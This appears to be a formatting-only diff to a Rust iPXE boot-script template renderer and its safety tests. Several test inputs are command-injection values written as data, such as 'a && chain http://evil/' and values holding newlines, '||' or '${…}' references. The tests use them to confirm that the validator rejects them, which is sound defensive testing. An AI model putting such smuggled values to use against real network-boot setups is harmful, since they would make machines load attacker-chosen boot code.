@@ -15,7 +15,8 @@ use std::collections::BTreeMap;
 
 /// Used when a release brings no template. `${secrets_arg}` expands to
 /// ` b2c.extra_args_url="<url>"` when the gateway has secrets and to nothing otherwise.
-pub const DEFAULT_TEMPLATE: &str = "#!ipxe\nkernel ${kernel_url} ${cmdline}${secrets_arg}\ninitrd ${initrd_url}\nboot\n";
+pub const DEFAULT_TEMPLATE: &str =
+    "#!ipxe\nkernel ${kernel_url} ${cmdline}${secrets_arg}\ninitrd ${initrd_url}\nboot\n";
 
 /// Longest template accepted (iPXE scripts are small; anything larger is a mistake).
 pub const MAX_TEMPLATE_BYTES: usize = 64 * 1024;
@@ -218,7 +219,8 @@ pub fn check_script(rendered: &Rendered) -> Result<(), RenderError> {
             // A value shaped this word if it put bytes in it, or was put in anywhere from its
             // start to its end (an empty value can cut template text into `&&` or `#…`).
             let (from, to) = (line_start + start, line_start + start + word.len());
-            let from_values = word_origin.iter().any(|o| *o != Origin::Template) || rendered.substitutions.iter().any(|&at| at >= from && at <= to);
+            let from_values = word_origin.iter().any(|o| *o != Origin::Template)
+                || rendered.substitutions.iter().any(|&at| at >= from && at <= to);
             if from_values && (word == "&&" || word == "||") {
                 return bad("a value forms a command separator");
             }
@@ -229,7 +231,9 @@ pub fn check_script(rendered: &Rendered) -> Result<(), RenderError> {
             // put in between them.
             let forms_reference = word.match_indices("${").any(|(i, _)| {
                 let at = from + i;
-                origin[start + i] != Origin::Template || origin[start + i + 1] != Origin::Template || rendered.substitutions.contains(&(at + 1))
+                origin[start + i] != Origin::Template
+                    || origin[start + i + 1] != Origin::Template
+                    || rendered.substitutions.contains(&(at + 1))
             });
             if forms_reference {
                 return bad("a value forms a setting reference");
@@ -287,9 +291,18 @@ mod tests {
     fn empty_values_cannot_join_template_text_into_a_comment_or_chain() {
         let mut v = Vars::new();
         v.set("a", "").unwrap();
-        assert!(matches!(render("#!ipxe\nkernel k ${a}#x console=ttyS0\n", &v), Err(RenderError::UnsafeScript { line: 2, .. })));
-        assert!(matches!(render("#!ipxe\nkernel k &${a}& chain http://evil/\n", &v), Err(RenderError::UnsafeScript { line: 2, .. })));
-        assert!(matches!(render("#!ipxe\nkernel k &&${a} chain http://evil/\n", &v), Err(RenderError::UnsafeScript { line: 2, .. })));
+        assert!(matches!(
+            render("#!ipxe\nkernel k ${a}#x console=ttyS0\n", &v),
+            Err(RenderError::UnsafeScript { line: 2, .. })
+        ));
+        assert!(matches!(
+            render("#!ipxe\nkernel k &${a}& chain http://evil/\n", &v),
+            Err(RenderError::UnsafeScript { line: 2, .. })
+        ));
+        assert!(matches!(
+            render("#!ipxe\nkernel k &&${a} chain http://evil/\n", &v),
+            Err(RenderError::UnsafeScript { line: 2, .. })
+        ));
         assert!(render("#!ipxe\nkernel k x${a} #comment-by-template\n", &v).is_ok());
         // Template-written iPXE references next to a value stay allowed; a value cannot split one.
         assert!(render("#!ipxe\nkernel k mac=${netX/mac}${a}\n", &v).is_ok());
@@ -304,7 +317,10 @@ mod tests {
         v.set_own("secrets_arg", " b2c.extra_args_url=\"https://s/secrets/T\"").unwrap();
         assert!(render("#!ipxe\nkernel k${secrets_arg}\n", &v).is_ok());
         // A template with unbalanced quotes is refused as rendered.
-        assert!(matches!(render("#!ipxe\nkernel k a=\"b\n", &Vars::new()), Err(RenderError::UnsafeScript { line: 2, .. })));
+        assert!(matches!(
+            render("#!ipxe\nkernel k a=\"b\n", &Vars::new()),
+            Err(RenderError::UnsafeScript { line: 2, .. })
+        ));
     }
 
     mod properties {
@@ -398,7 +414,17 @@ mod tests {
     #[test]
     fn values_cannot_inject_lines_or_commands() {
         let mut v = Vars::new();
-        for bad in ["x\nshell", "x\r\nshell", "x\tshell", "a || shell", "a && chain http://evil/", "a #comment", "${netX/mac}", "x\u{0}y", "x\u{85}y"] {
+        for bad in [
+            "x\nshell",
+            "x\r\nshell",
+            "x\tshell",
+            "a || shell",
+            "a && chain http://evil/",
+            "a #comment",
+            "${netX/mac}",
+            "x\u{0}y",
+            "x\u{85}y",
+        ] {
             assert!(matches!(v.set("cmdline", bad), Err(RenderError::UnsafeValue { .. })), "{bad:?} accepted");
         }
         assert!(v.get("cmdline").is_none());
